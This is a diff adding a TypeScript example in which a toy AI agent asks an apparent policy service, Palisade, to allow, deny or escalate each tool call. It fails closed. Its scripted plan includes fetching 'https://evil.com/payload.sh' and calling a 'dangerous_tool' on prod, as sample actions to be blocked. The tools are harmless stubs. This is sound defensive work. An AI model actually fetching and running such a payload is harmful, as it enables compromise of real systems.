@@ -1,0 +1,45 @@
+// A toy agent that asks Palisade before every tool call, and before acting on the model's
+// output. Run a host first (npm start), set up a tenant as in the README, then:
+//
+//   PALISADE_KEY=pal_agent_… PALISADE_TENANT=acme npm run example:agent
+//
+// With failClosed, an unreachable host means DENY: the agent never acts unchecked.
+import { PalisadeClient, type PolicyEvent } from "palisade/sdk";
+
+const tenant = process.env.PALISADE_TENANT ?? "acme";
+const client = new PalisadeClient({
+  url: process.env.PALISADE_URL ?? "http://127.0.0.1:8181",
+  key: process.env.PALISADE_KEY ?? "",
+  timeoutMs: 2000,
+  failClosed: true,
+});
+
+// What the "model" wants to do next, one step at a time.
+const plan: { tool: string; arguments: Record<string, unknown> }[] = [
+  { tool: "web_fetch", arguments: { url: "https://docs.example.com/install" } },
+  { tool: "web_fetch", arguments: { url: "https://evil.com/payload.sh" } },
+  { tool: "dangerous_tool", arguments: { target: "prod" } },
+];
+
+const tools: Record<string, (args: Record<string, unknown>) => string> = {
+  web_fetch: (args) => `fetched ${String(args.url)}`,
+  dangerous_tool: () => "boom",
+};
+
+for (const [step, call] of plan.entries()) {
+  const event: PolicyEvent = {
+    type: "tool_call",
+    data: { name: call.tool, arguments: call.arguments },
+    context: { session_id: "demo-session", agent: "agent-loop" },
+  };
+  const decision = await client.evaluate(tenant, event);
+  if (decision.result === "ALLOW") {
+    // A policy may rewrite the arguments (say, to redact them): use what it returned.
+    const args = (decision.data as { arguments?: Record<string, unknown> } | null)?.arguments ?? call.arguments;
+    console.log(`step ${step + 1}: ${call.tool} → ALLOW → ${tools[call.tool]!(args)}`);
+  } else if (decision.result === "ASK") {
+    console.log(`step ${step + 1}: ${call.tool} → ASK: would ask the user (${decision.reason})`);
+  } else {
+    console.log(`step ${step + 1}: ${call.tool} → DENY: skipped (${decision.reason})`);
+  }
+}
